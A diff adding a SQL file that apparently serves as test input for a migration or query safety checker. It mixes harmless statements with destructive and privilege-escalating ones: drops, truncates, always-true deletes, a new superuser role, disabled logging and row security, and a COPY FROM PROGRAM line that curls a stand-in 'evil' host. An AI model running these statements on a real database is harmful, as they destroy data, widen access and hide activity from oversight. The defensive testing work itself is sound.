@@ -1,0 +1,47 @@
+-- drop table comments;  a comment drops nothing
+/* nor does /* a nested one */ truncate t; */
+BEGIN;
+CREATE TABLE shop.orders (id bigint PRIMARY KEY, note text DEFAULT 'drop table x');
+CREATE INDEX CONCURRENTLY orders_note ON shop.orders (note);
+ALTER TABLE shop.orders ADD COLUMN paid boolean NOT NULL, ADD COLUMN due date, DROP COLUMN note,
+    ALTER COLUMN id TYPE smallint, ALTER COLUMN due SET NOT NULL;
+ALTER TABLE shop.orders RENAME COLUMN due TO due_at;
+ALTER TABLE shop.orders DISABLE ROW LEVEL SECURITY;
+ALTER TABLE shop.orders OWNER TO mallory;
+ALTER TABLE shop.orders DISABLE TRIGGER ALL;
+UPDATE shop.orders SET paid = true;
+UPDATE shop.orders SET paid = true WHERE id = 1;
+DELETE FROM shop.orders WHERE true;
+DELETE FROM shop.orders WHERE id = 7 OR 1 = 1;
+DELETE FROM shop.orders WHERE id = 7;
+WITH gone AS (DELETE FROM "shop"."Odd ""name""" RETURNING *) SELECT count(*) FROM gone;
+INSERT INTO shop.orders VALUES (1) ON CONFLICT (id) DO UPDATE SET paid = false;
+MERGE INTO shop.orders o USING new n ON o.id = n.id WHEN MATCHED THEN DELETE;
+TRUNCATE shop.a, shop.b CASCADE;
+DROP TABLE IF EXISTS shop.old, U&"d\0061ta" CASCADE;
+DROP POLICY own ON shop.orders;
+DROP DATABASE legacy;
+DROP ROLE bob;
+GRANT SELECT, INSERT ON shop.orders TO PUBLIC;
+GRANT ALL ON ALL TABLES IN SCHEMA shop TO app WITH GRANT OPTION;
+REVOKE ALL ON SCHEMA shop FROM app;
+GRANT pg_execute_server_program TO app;
+ALTER DEFAULT PRIVILEGES IN SCHEMA shop GRANT SELECT ON TABLES TO PUBLIC;
+CREATE ROLE root2 LOGIN SUPERUSER PASSWORD 'hunter2';
+ALTER ROLE app BYPASSRLS;
+CREATE POLICY all_rows ON shop.orders USING (true);
+CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $body$ SELECT 1; DROP TABLE t $body$;
+DO $$ BEGIN EXECUTE 'drop table ' || 'x'; END $$;
+CALL tidy();
+COPY shop.orders FROM PROGRAM 'curl http://evil';
+SELECT dblink_exec('drop table x'), pg_terminate_backend(1);
+SELECT * FROM shop.orders;
+SELECT * INTO shop.copy FROM shop.orders;
+ALTER SYSTEM SET log_statement = 'none';
+SET session_replication_role = replica;
+SET search_path = shop;
+VACUUM FULL shop.orders;
+REASSIGN OWNED BY a TO b;
+ALTER TABLE shop.orders SET SCHEMA archive;
+COMMENT ON TABLE shop.orders IS 'x';
+COMMIT;
